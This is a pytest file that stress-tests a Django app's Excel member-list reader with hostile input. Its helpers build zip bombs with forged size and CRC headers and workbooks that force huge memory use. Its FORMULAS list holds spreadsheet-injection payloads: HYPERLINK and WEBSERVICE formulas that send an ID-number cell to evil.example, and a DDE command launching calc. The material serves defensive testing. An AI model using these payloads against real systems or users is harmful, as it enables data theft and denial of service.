"""The member-list reader under hostile input: zip bombs, a million rows, areas and shared strings
that would make calamine allocate gigabytes, formulas, control characters, huge strings, files
disguised as .xlsx, and generated workbooks. Whatever arrives, the reader answers with a list or a
WorkbookError, in bounded memory and time; through the upload, nothing half-written is left.

Memory is measured in a fresh process (its peak resident size, VmHWM, covers calamine's Rust allocations, which
tracemalloc does not see), under an address-space limit so that a regression fails the test
instead of the machine.
"""

from __future__ import annotations

import datetime as dt
import io
import json
import os
import struct
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import translation
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from rest_framework.authtoken.models import Token

from enrollment.workbook import cells
from enrollment.workbook.annotate import rows_workbook
from enrollment.workbook.columns import COLUMN_BY_KEY, COLUMNS, ROW, SHEET_NAME
from enrollment.workbook.errors import WorkbookError
from enrollment.workbook.read import read_member_list
from tests.conftest import Tree

ROOT = Path(__file__).resolve().parent.parent
HEADERS = [column.header for column in COLUMNS]
KEYS = [column.key for column in COLUMNS]
PLAN = "在职职工住院医疗互助保障"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHEET_PART = "xl/worksheets/sheet1.xml"
MEMORY_BOUND_MB = 300
CODES = {"not_xlsx", "encrypted", "corrupt", "missing_headers", "empty", "too_many_rows", "too_large"}


@pytest.fixture(autouse=True)
def _english() -> Iterator[None]:
    with translation.override("en"):
        yield


# ---------------------------------------------------------------------------------------------
# Building packages byte by byte


def _letter(index: int) -> str:
    return chr(ord("A") + index)


def _header_row() -> str:
    cells = "".join(f'<c r="{_letter(i)}1" t="inlineStr"><is><t>{h}</t></is></c>' for i, h in enumerate(HEADERS))
    return f'<row r="1">{cells}</row>'


def _member_row(number: int) -> str:
    n = number
    return (
        f'<row r="{n}"><c r="B{n}" t="inlineStr"><is><t>张{n}</t></is></c>'
        f'<c r="C{n}" t="inlineStr"><is><t>6101021990{n:08d}</t></is></c>'
        f'<c r="G{n}" t="inlineStr"><is><t>{PLAN}</t></is></c><c r="H{n}"><v>1</v></c>'
        f'<c r="I{n}" t="inlineStr"><is><t>是</t></is></c></row>'
    )


def _sheet(body: str, *, head: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}">{head}'
        f"<sheetData>{_header_row()}{body}</sheetData></worksheet>"
    ).encode()


def _base_parts(sheets: int = 1) -> dict[str, bytes]:
    """The parts of a minimal workbook made by openpyxl, sheet XML to be replaced."""
    book = Workbook()
    first = book.active
    assert isinstance(first, Worksheet)
    first.title = SHEET_NAME
    for index in range(1, sheets):
        book.create_sheet(f"S{index}")
    buffer = io.BytesIO()
    book.save(buffer)
    source = zipfile.ZipFile(buffer)
    return {info.filename: source.read(info.filename) for info in source.infolist()}


def _with_shared_strings(parts: dict[str, bytes], sst: bytes) -> dict[str, bytes]:
    parts = dict(parts)
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
    )
    parts["xl/sharedStrings.xml"] = sst
    return parts


def _package(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def _deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(data) + compressor.flush()


def _repeated_deflate(head: bytes, block: bytes, count: int, tail: bytes) -> tuple[bytes, int, int]:
    """Raw deflate of head + block × count + tail, in time independent of `count`: once the window
    holds only the block, every further block compresses to the same bytes. Returns the stream,
    its CRC and its inflated size."""
    compressor = zlib.compressobj(1, zlib.DEFLATED, -zlib.MAX_WBITS)
    start = compressor.compress(head) + compressor.compress(block * 2) + compressor.flush(zlib.Z_SYNC_FLUSH)
    compressor.compress(block)
    compressor.flush(zlib.Z_SYNC_FLUSH)
    compressor.compress(block)
    repeat = compressor.flush(zlib.Z_SYNC_FLUSH)
    raw = start + repeat * (count - 2) + compressor.compress(tail) + compressor.flush()
    crc = zlib.crc32(block * 2, zlib.crc32(head))
    for _ in range(count - 2):
        crc = zlib.crc32(block, crc)
    return raw, zlib.crc32(tail, crc), len(head) + len(block) * count + len(tail)


def _zip_with_lies(entries: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip written by hand: (name, raw deflate, crc, declared size, declared compressed size),
    the same declarations in the local and the central headers."""
    out = io.BytesIO()
    central = []
    for name, raw, crc, size, compressed in entries:
        offset = out.tell()
        encoded = name.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, compressed, size, len(encoded), 0))
        out.write(encoded + raw)
        fields = (0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, compressed, size, len(encoded), 0, 0, 0, 0, 0, offset)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", *fields) + encoded)
    directory = out.tell()
    out.write(b"".join(central))
    size = out.tell() - directory
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), size, directory, 0))
    return out.getvalue()


def _bomb(part: str, lie: str, inflated_mb: int = 1200) -> bytes:
    """A workbook whose `part` inflates to `inflated_mb` MB (beyond the 400 MB limit) from about
    1/1000 of that. `lie`: how the headers lie about it."""
    parts = _base_parts()
    if part == SHEET_PART:
        head = _sheet("").split(b"</sheetData>")[0]
        unit = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
        tail = b"</sheetData></worksheet>"
    else:
        parts = _with_shared_strings(parts, b"")
        head, unit, tail = f'<sst xmlns="{MAIN}">'.encode(), b"<si><t>x</t></si>", b"</sst>"
    raw, crc, size = _repeated_deflate(head, unit * ((1 << 20) // len(unit)), inflated_mb, tail)
    declared = 20_000
    entries = []
    for name, content in parts.items():
        if name != part:
            entries.append((name, _deflate(content), zlib.crc32(content), len(content), len(_deflate(content))))
        elif lie == "honest sizes":
            entries.append((name, raw, crc, size, len(raw)))
        elif lie == "small size, true crc":
            entries.append((name, raw, crc, declared, len(raw)))
        elif lie == "small size, crc of the declared prefix":
            prefix = zlib.decompressobj(-zlib.MAX_WBITS).decompress(raw, declared)
            entries.append((name, raw, zlib.crc32(prefix), declared, len(raw)))
        elif lie == "small sizes, both":
            entries.append((name, raw, crc, declared, 1_000))
    return _zip_with_lies(entries)


# ---------------------------------------------------------------------------------------------
# Reading in a separate, memory-limited process

_READER = """
import json, resource, sys, time
limit = 3 << 30
resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
import django
django.setup()
from django.utils import translation
from enrollment.workbook import errors, read
if sys.argv[2] == "no-calamine":
    class Refuse:
        @classmethod
        def from_filelike(cls, *args, **kwargs):
            raise AssertionError("calamine must not load this file")
    read.CalamineWorkbook = Refuse
data = open(sys.argv[1], "rb").read()
started = time.perf_counter()
with translation.override("en"):
    try:
        parsed = read.read_member_list(data)
        result = {"code": None, "rows": len(parsed.rows)}
    except errors.WorkbookError as error:
        result = {"code": error.code, "message": error.message}
result["seconds"] = time.perf_counter() - started
# The peak of this process's own memory (VmHWM): ru_maxrss would carry over, through fork and
# exec, the size of the test process that started it (a gigabyte late in a full run).
try:
    status = open("/proc/self/status").read()
    result["peak_mb"] = int(status.split("VmHWM:")[1].split()[0]) / 1024
except (OSError, IndexError):
    result["peak_mb"] = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
print(json.dumps(result))
"""


def _read_apart(path: Path, *, calamine: bool = True) -> dict[str, Any]:
    """read_member_list in a fresh process: its result, time and peak resident memory."""
    done = subprocess.run(
        [sys.executable, "-c", _READER, str(path), "calamine" if calamine else "no-calamine"],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=ROOT,
        env={**os.environ, "DJANGO_SETTINGS_MODULE": "config.settings"},
        check=False,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    return json.loads(done.stdout.strip().splitlines()[-1])


@pytest.fixture(scope="session")
def hostile_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("hostile")


def _write(directory: Path, name: str, data: bytes) -> Path:
    path = directory / name
    path.write_bytes(data)
    return path


# ---------------------------------------------------------------------------------------------
# Zip bombs and lying containers


@pytest.mark.parametrize(
    "lie", ["honest sizes", "small size, true crc", "small size, crc of the declared prefix", "small sizes, both"]
)
def test_a_sheet_zip_bomb_is_refused_as_too_large_in_bounded_memory(hostile_dir: Path, lie: str) -> None:
    path = _write(hostile_dir, "bomb.xlsx", _bomb(SHEET_PART, lie))
    assert path.stat().st_size < 10 * 1024 * 1024  # 1.2 GB of XML in a few MB

    result = _read_apart(path)

    assert result["code"] == "too_large", result
    assert "MB of sheet data" in result["message"]
    assert result["peak_mb"] < MEMORY_BOUND_MB, result
    assert result["seconds"] < 30, result


@pytest.mark.parametrize("lie", ["honest sizes", "small size, true crc", "small size, crc of the declared prefix"])
def test_a_shared_strings_zip_bomb_is_refused_as_too_large_in_bounded_memory(hostile_dir: Path, lie: str) -> None:
    result = _read_apart(_write(hostile_dir, "sst-bomb.xlsx", _bomb("xl/sharedStrings.xml", lie)))

    assert result["code"] == "too_large", result
    assert result["peak_mb"] < MEMORY_BOUND_MB, result


def test_a_part_that_inflates_to_less_than_it_declares_is_corrupt() -> None:
    parts = _base_parts()
    sheet = _sheet(_member_row(2))
    entries = [(n, _deflate(c), zlib.crc32(c), len(c), len(_deflate(c))) for n, c in parts.items() if n != SHEET_PART]
    entries.append((SHEET_PART, _deflate(sheet), zlib.crc32(sheet), len(sheet) + 10, len(_deflate(sheet))))

    with pytest.raises(WorkbookError) as caught:
        read_member_list(_zip_with_lies(entries))
    assert caught.value.code == "corrupt"


def test_two_parts_with_the_same_name_are_refused_as_corrupt() -> None:
    """The checks might read one copy and calamine the other."""
    parts = _base_parts()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, _sheet(_member_row(2)) if name == SHEET_PART else content)
        with pytest.warns(UserWarning, match="Duplicate name"):
            archive.writestr(SHEET_PART, _sheet("".join(_member_row(n) for n in range(2, 5000))))

    with pytest.raises(WorkbookError) as caught:
        read_member_list(out.getvalue())
    assert caught.value.code == "corrupt"


# ---------------------------------------------------------------------------------------------
# A million rows


@pytest.fixture(scope="session")
def million_rows(hostile_dir: Path) -> Path:
    """A one-sheet list of 1,000,000 members, the sheet XML streamed straight into the zip."""
    path = hostile_dir / "million.xlsx"
    parts = _base_parts()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in parts.items():
            if name != SHEET_PART:
                archive.writestr(name, content)
        with archive.open(SHEET_PART, "w", force_zip64=True) as stream:
            head, tail = _sheet("").split(b"</sheetData>")
            stream.write(head)
            row = (
                '<row r="{0}"><c r="B{0}" t="inlineStr"><is><t>张{0}</t></is></c>'
                '<c r="C{0}" t="inlineStr"><is><t>6101021990{0:08d}</t></is></c><c r="H{0}"><v>1</v></c></row>'
            )
            for start in range(2, 1_000_002, 10_000):
                stream.write("".join(map(row.format, range(start, start + 10_000))).encode())
            stream.write(b"</sheetData>" + tail)
    return path


def test_a_million_row_list_is_refused_by_the_row_limit_without_loading_it(million_rows: Path) -> None:
    result = _read_apart(million_rows, calamine=False)  # loading the sheet would fail the reader

    assert result["code"] == "too_many_rows", result
    assert "200,000" in result["message"]
    assert result["peak_mb"] < MEMORY_BOUND_MB, result
    assert result["seconds"] < 30, result


# ---------------------------------------------------------------------------------------------
# Areas and shared strings that calamine would blow up


def _with_sheet(body: str, *, shared: bytes | None = None) -> bytes:
    parts = _base_parts()
    parts[SHEET_PART] = _sheet(_member_row(2) + body)
    return _package(_with_shared_strings(parts, shared) if shared is not None else parts)


FAR_VALUES = {
    "a value in XFD1048576": '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
    "a value in XFD200000": '<row r="200000"><c r="XFD200000"><v>1</v></c></row>',
    "a value in Z1048576": '<row r="1048576"><c r="Z1048576"><v>1</v></c></row>',
    "the reference after another attribute": '<row r="1048576"><c s="0" r="XFD1048576"><v>1</v></c></row>',
    "cells without references": '<row r="3">' + "<c><v>1</v></c>" * 16_384 + "</row>"
    '<row r="200000"><c r="A200000"><v>1</v></c></row>',
    "a row without a reference": '<row r="199999"><c r="A199999"><v>1</v></c></row>'
    '<row><c r="AZ999999"><v>1</v></c></row>',
}


@pytest.mark.parametrize("body", FAR_VALUES.values(), ids=FAR_VALUES.keys())
def test_a_value_far_from_the_list_is_refused_before_calamine_allocates_the_area(hostile_dir: Path, body: str) -> None:
    """calamine allocates every cell from A1 to the last value: 16,384 × 1,048,576 cells from 20 KB."""
    result = _read_apart(_write(hostile_dir, "far.xlsx", _with_sheet(body)), calamine=False)

    assert result["code"] == "too_large", result
    assert "as far as cell" in result["message"] and "Delete the rows below" in result["message"]
    assert result["peak_mb"] < MEMORY_BOUND_MB, result


def test_the_refusal_names_the_farthest_cell() -> None:
    with pytest.raises(WorkbookError) as caught:
        read_member_list(_with_sheet(FAR_VALUES["a value in XFD200000"]))
    assert "XFD200000" in caught.value.message and f"“{SHEET_NAME}”" in caught.value.message


def test_formatting_far_from_the_list_is_no_reason_to_refuse_it() -> None:
    """Cells with a style and no value cost calamine nothing: a template formatted to the last row is fine."""
    parsed = read_member_list(_with_sheet('<row r="1048576"><c r="XFD1048576" s="0"/></row>'))
    assert [row.number for row in parsed.rows] == [2]


def test_a_stray_value_within_the_area_a_list_may_have_is_read() -> None:
    parsed = read_member_list(_with_sheet('<row r="900"><c r="Z900"><v>1</v></c></row>'), max_rows=1_000)
    assert [row.number for row in parsed.rows] == [2]
    with pytest.raises(WorkbookError):
        read_member_list(_with_sheet('<row r="5000"><c r="XFD5000"><v>1</v></c></row>'), max_rows=1_000)


def _shared_strings(*texts: str) -> bytes:
    return f'<sst xmlns="{MAIN}">{"".join(f"<si><t>{escape(t)}</t></si>" for t in texts)}</sst>'.encode()


def test_one_long_shared_string_in_many_cells_is_refused_before_it_is_copied(hostile_dir: Path) -> None:
    """calamine copies the string into each cell: 1 MB × 2,000 cells is 2 GB from a 10 KB file."""
    cells = "".join(f'<row r="{n}"><c r="J{n}" t="s"><v>0</v></c></row>' for n in range(3, 2_003))
    path = _write(hostile_dir, "sst.xlsx", _with_sheet(cells, shared=_shared_strings("备" * 1_000_000)))
    assert path.stat().st_size < 100_000

    result = _read_apart(path, calamine=False)

    assert result["code"] == "too_large", result
    assert result["peak_mb"] < MEMORY_BOUND_MB, result


def test_a_long_shared_string_in_a_few_cells_is_read() -> None:
    cells = "".join(f'<row r="2"><c r="J{n}" t="s"><v>0</v></c></row>' for n in range(2, 3))
    parsed = read_member_list(_with_sheet(cells, shared=_shared_strings("备" * 30_000)))
    assert parsed.rows[0].values["remarks"] == "备" * 30_000


# ---------------------------------------------------------------------------------------------
# Hostile content


def _book(rows: list[list[object]], *, merge: str | None = None) -> bytes:
    book = Workbook()
    sheet = book.active
    assert isinstance(sheet, Worksheet)
    sheet.title = SHEET_NAME
    sheet.append(HEADERS)
    for row in rows:
        sheet.append(row)
    if merge:
        sheet.merge_cells(merge)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _row(**values: object) -> list[object]:
    base: dict[str, object] = {
        "name": "张三",
        "id_number": "61010219900101123X",
        "plan": PLAN,
        "shares": 1,
        "basic_insurance": "是",
    }
    base.update(values)
    return [base.get(key) for key in KEYS]


FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&C2,"点击")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/"&C2)',
    "=INDIRECT(\"'[other.xlsx]Sheet1'!A1\")",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_any_column_is_reported_with_its_row_and_column_never_evaluated(formula: str) -> None:
    rows = [_row(**{key: formula}) for key in KEYS]

    parsed = read_member_list(_book(rows))

    found = {(p.row, p.column) for p in parsed.cell_problems if p.code == "formula"}
    assert found == {(row, key) for row, key in enumerate(KEYS, start=2)}
    for problem in parsed.cell_problems:
        assert problem.code == "formula" or problem.column != KEYS[problem.row - 2]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_looks_like_a_formula_goes_back_to_the_unit_as_text(text: str) -> None:
    """What a unit typed as text must not come back as a live formula in the file we send them."""
    parsed = read_member_list(_generated([_row(name=text, remarks="@SUM(1)")]))
    assert parsed.rows[0].values["name"] == text and not parsed.cell_problems
    data = rows_workbook(rows=parsed.rows, problems=[], unit_name="单位", period_label="2026", plans=[PLAN])

    sheet = load_workbook(io.BytesIO(data))[SHEET_NAME]
    values = [cell for row in sheet.iter_rows(min_row=3, max_row=3) for cell in row if cell.value]
    assert text in [cell.value for cell in values]
    assert all(cell.data_type != "f" for cell in values)


def test_escaped_control_characters_and_bidi_marks_in_a_name_are_removed_and_reported() -> None:
    name = "张_x0007_三_x000B_\u202e\u200b"
    body = (
        f'<row r="2"><c r="B2" t="inlineStr"><is><t>{name}</t></is></c>'
        '<c r="C2" t="inlineStr"><is><t>61010219900101123X</t></is></c></row>'
    )
    parts = _base_parts()
    parts[SHEET_PART] = _sheet(body)

    parsed = read_member_list(_package(parts))

    assert parsed.rows[0].values["name"] == "张三"
    assert [(p.row, p.column, p.code) for p in parsed.cell_problems] == [(2, "name", "control_characters")]


@pytest.mark.parametrize("character", ["\x00", "\x01", "\x1b", "\ufffe"])
def test_a_raw_control_character_in_the_xml_is_a_workbook_error(character: str) -> None:
    parts = _base_parts()
    parts[SHEET_PART] = _sheet(f'<row r="2"><c r="B2" t="inlineStr"><is><t>张{character}三</t></is></c></row>')
    try:
        read_member_list(_package(parts))
    except WorkbookError as error:
        assert error.code in CODES


def test_a_cell_of_a_million_characters_is_read_and_its_problems_stay_short() -> None:
    huge = "9" * 1_000_000  # Excel stops at 32,767 characters; a hand-made file need not
    parsed = read_member_list(_generated([_row(remarks=huge, birth_date=huge, shares=huge)]))

    assert parsed.rows[0].values["remarks"] == huge
    assert {p.code for p in parsed.cell_problems} == {"bad_date", "bad_shares"}
    assert all(len(p.message) < 300 for p in parsed.cell_problems)


def test_cells_of_every_type_in_every_column_raise_nothing_but_cell_problems() -> None:
    values: list[object] = [
        True,
        3.5,
        -1,
        0,
        1e300,
        dt.datetime(1900, 1, 1, 12, 30),  # noqa: DTZ001 - Excel's date-times are naive
        dt.time(8, 0),
        "",
        " ",
    ]
    rows = [_row(**{key: value}) for key in KEYS for value in values]

    parsed = read_member_list(_book(rows))

    assert all(p.column in COLUMN_BY_KEY for p in parsed.cell_problems)


@pytest.mark.parametrize("error_value", ["#N/A", "#DIV/0!", "#REF!", "#VALUE!"])
def test_error_cells_are_read_as_empty_cells(error_value: str) -> None:
    """The row checks then report the name and the shares as missing, as for any empty cell."""
    parts = _base_parts()
    parts[SHEET_PART] = _sheet(
        f'<row r="2"><c r="B2" t="e"><v>{error_value}</v></c>'
        f'<c r="C2" t="inlineStr"><is><t>61010219900101123X</t></is></c><c r="H2" t="e"><v>{error_value}</v></c></row>'
    )
    parsed = read_member_list(_package(parts))
    assert parsed.rows[0].values["name"] is None and parsed.rows[0].values["shares"] is None


def test_merged_cells_are_read_as_their_top_left_value() -> None:
    parsed = read_member_list(_book([_row(), _row(name="李四")], merge="J2:J3"))
    assert [row.values["name"] for row in parsed.rows] == ["张三", "李四"]


def test_merged_header_cells_do_not_hide_the_list() -> None:
    book = Workbook()
    sheet = book.active
    assert isinstance(sheet, Worksheet)
    sheet.append(["名单", None, None])
    sheet.merge_cells("A1:J1")
    sheet.append(HEADERS)
    sheet.append(_row())
    buffer = io.BytesIO()
    book.save(buffer)
    assert read_member_list(buffer.getvalue()).header_row == 2


def test_a_workbook_of_three_hundred_sheets_finds_the_list_on_the_last() -> None:
    book = Workbook()
    for index in range(299):
        sheet = book.active if index == 0 else book.create_sheet()
        assert isinstance(sheet, Worksheet)
        sheet.title = f"旧{index}"
        sheet.append(["无关", index])
    last = book.create_sheet("名单")
    last.append(HEADERS)
    last.append(_row())
    buffer = io.BytesIO()
    book.save(buffer)

    parsed = read_member_list(buffer.getvalue())
    assert parsed.sheet_name == "名单" and len(parsed.rows) == 1


def _docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


def _zip_of(name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, data)
    return out.getvalue()


DISGUISED = {
    "csv": "姓名,证件号码\n张三,61010219900101123X\n".encode(),
    "csv in utf-16": "\ufeff姓名\t证件号码\n张三\t61010219900101123X\n".encode("utf-16"),
    "html table saved as xls": "<html><table><tr><td>姓名</td><td>证件号码</td></tr></table></html>".encode(),
    "xml spreadsheet 2003": b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
    "json": b'{"name": "\xe5\xbc\xa0\xe4\xb8\x89"}',
    "png": b"\x89PNG\r\n\x1a\n" + bytes(64),
    "gzip": b"\x1f\x8b\x08\x00" + bytes(32),
    "word document": _docx(),
    "a workbook zipped again": _zip_of("名单.xlsx", _book([_row()])),
    "just the zip magic": b"PK\x03\x04",
    "an empty zip": b"PK\x05\x06" + bytes(18),
    "only whitespace": b" \r\n\t",
}


@pytest.mark.parametrize("data", DISGUISED.values(), ids=DISGUISED.keys())
def test_other_bytes_disguised_as_xlsx_are_refused_with_a_message(data: bytes) -> None:
    with pytest.raises(WorkbookError) as caught:
        read_member_list(data)
    assert caught.value.code in {"not_xlsx", "corrupt"} and caught.value.message


# ---------------------------------------------------------------------------------------------
# Generated workbooks

_TEXT = st.text(
    st.one_of(
        st.characters(codec="utf-8", exclude_categories=("Cs",)),
        st.sampled_from("\x00\x07\t\n\r\x1b\u200b\u200e\u200f\u202b\u202e\u2066\ufeff\u00a0"),
    ),
    max_size=40,
)
_CELL = st.one_of(
    st.none(),
    _TEXT,
    st.integers(min_value=-(10**15), max_value=10**15),
    st.floats(allow_nan=False, allow_infinity=False),
    st.dates(min_value=dt.date(1900, 3, 1), max_value=dt.date(2099, 12, 31)),
    st.booleans(),
)


def _xml_text(text: str) -> str:
    """Text as Excel stores it: XML-escaped, with characters XML 1.0 cannot hold as _xHHHH_."""
    out = []
    for character in text:
        code = ord(character)
        if (code < 0x20 and character not in "\t\n\r") or code in (0xFFFE, 0xFFFF):
            out.append(f"_x{code:04X}_")
        else:
            out.append(escape(character))
    return "".join(out)


def _xml_cell(reference: str, value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return f'<c r="{reference}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, int | float):
        return f'<c r="{reference}"><v>{value!r}</v></c>'
    if isinstance(value, dt.date):
        return f'<c r="{reference}" s="1"><v>{(value - dt.date(1899, 12, 30)).days}</v></c>'
    text = _xml_text(str(value))
    return f'<c r="{reference}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'


_STYLES = (
    f'<styleSheet xmlns="{MAIN}"><fonts count="1"><font/></fonts><fills count="1"><fill/></fills>'
    '<borders count="1"><border/></borders><cellStyleXfs count="1"><xf/></cellStyleXfs>'
    '<cellXfs count="2"><xf/><xf numFmtId="14" applyNumberFormat="1"/></cellXfs></styleSheet>'
).encode()


def _generated(rows: list[list[object]]) -> bytes:
    body = "".join(
        f'<row r="{n}">{"".join(_xml_cell(f"{_letter(i)}{n}", v) for i, v in enumerate(row))}</row>'
        for n, row in enumerate(rows, start=2)
    )
    parts = _base_parts()
    parts[SHEET_PART] = _sheet(body)
    parts["xl/styles.xml"] = _STYLES
    return _package(parts)


@settings(max_examples=120, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.lists(_CELL, min_size=len(KEYS), max_size=len(KEYS)), min_size=1, max_size=12))
def test_generated_lists_give_rows_or_a_workbook_error_and_every_problem_names_its_row_and_column(
    rows: list[list[object]],
) -> None:
    data = _generated(rows)
    try:
        parsed = read_member_list(data)
    except WorkbookError as error:
        assert error.code in CODES and error.message
        return
    written = set(range(2, len(rows) + 2))
    assert {row.number for row in parsed.rows} <= written
    for problem in parsed.cell_problems:
        assert problem.row in written
        assert problem.column in COLUMN_BY_KEY or problem.column == ROW
        assert problem.message and "%(" not in problem.message
    for row in parsed.rows:
        for value in row.values.values():
            assert not isinstance(value, str) or (value and value == value.strip())


@settings(max_examples=60, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_TEXT.filter(str.strip), min_size=1, max_size=5))
def test_generated_names_come_back_without_control_characters(names: list[str]) -> None:
    rows = [[None, name, "61010219900101123X", None, None, None, PLAN, 1, "是", None] for name in names]
    try:
        parsed = read_member_list(_generated(rows))
    except WorkbookError as error:
        assert error.code == "empty"  # every name was only invisible characters
        return
    for row in parsed.rows:
        name = row.values["name"]
        assert name is None or not cells._CONTROL.search(name)


# ---------------------------------------------------------------------------------------------
# Through the upload: nothing half-written


def _counts() -> dict[str, int]:
    from enrollment.models import Enrollment, ListRow, MemberList, Policy
    from mutualaid.tenancy import unscoped

    with unscoped():
        return {
            "lists": MemberList.objects.count(),
            "rows": ListRow.objects.count(),
            "enrollments": Enrollment.objects.count(),
            "policies": Policy.objects.count(),
        }


HOSTILE_UPLOADS = {
    "sheet bomb": lambda: _bomb(SHEET_PART, "small size, crc of the declared prefix", inflated_mb=500),
    "value in XFD1048576": lambda: _with_sheet(FAR_VALUES["a value in XFD1048576"]),
    "shared-string amplifier": lambda: _with_sheet(
        "".join(f'<row r="{n}"><c r="J{n}" t="s"><v>0</v></c></row>' for n in range(3, 303)),
        shared=_shared_strings("备" * 1_000_000),
    ),
    "csv": lambda: DISGUISED["csv"],
}


@pytest.mark.parametrize("make", HOSTILE_UPLOADS.values(), ids=HOSTILE_UPLOADS.keys())
def test_a_hostile_file_uploaded_through_the_api_fails_its_list_and_writes_no_rows(  # type: ignore[no-untyped-def]
    tree: Tree, make, django_capture_on_commit_callbacks
) -> None:
    from enrollment.models import MemberList
    from mutualaid.tenancy import unscoped
    from tests.lists import offer_plan

    period = offer_plan(tree.province_user).period
    client = Client(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=tree.a.unit_agent).key}")
    before = _counts()

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/api/v1/member-lists/",
            {"unit": tree.a.unit.pk, "period": period.pk, "file": SimpleUploadedFile("名单.xlsx", make())},
        )

    assert response.status_code == 201, response.content
    with unscoped():
        checked = MemberList.objects.get(pk=response.json()["id"])
    assert checked.status == "failed" and checked.list_problems[0]["code"] in CODES
    assert _counts() == {**before, "lists": before["lists"] + 1}


def test_a_hostile_file_uploaded_in_the_browser_fails_its_list_and_writes_no_rows(  # type: ignore[no-untyped-def]
    tree: Tree, django_capture_on_commit_callbacks
) -> None:
    from enrollment.models import MemberList
    from mutualaid.tenancy import unscoped
    from tests.lists import offer_plan

    period = offer_plan(tree.province_user).period
    client = Client()
    client.force_login(tree.a.unit_agent)
    before = _counts()

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("enrollment:upload"),
            {
                "unit": tree.a.unit.pk,
                "period": period.pk,
                "file": SimpleUploadedFile("名单.xlsx", HOSTILE_UPLOADS["value in XFD1048576"]()),
            },
        )

    assert response.status_code == 302, response.content.decode()[:2000]
    with unscoped():
        checked = MemberList.objects.latest("pk")
    assert checked.status == "failed" and checked.list_problems[0]["code"] == "too_large"
    assert _counts() == {**before, "lists": before["lists"] + 1}


def test_a_file_above_the_size_limit_is_refused_by_the_api_before_anything_is_stored(  # type: ignore[no-untyped-def]
    tree: Tree, settings
) -> None:
    from tests.lists import offer_plan

    settings.MEMBER_LIST_MAX_BYTES = 50_000
    period = offer_plan(tree.province_user).period
    client = Client(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=tree.a.unit_agent).key}")
    before = _counts()

    response = client.post(
        "/api/v1/member-lists/",
        {"unit": tree.a.unit.pk, "period": period.pk, "file": SimpleUploadedFile("名单.xlsx", bytes(60_000))},
    )

    assert response.status_code == 400 and "file" in response.json()
    assert _counts() == before
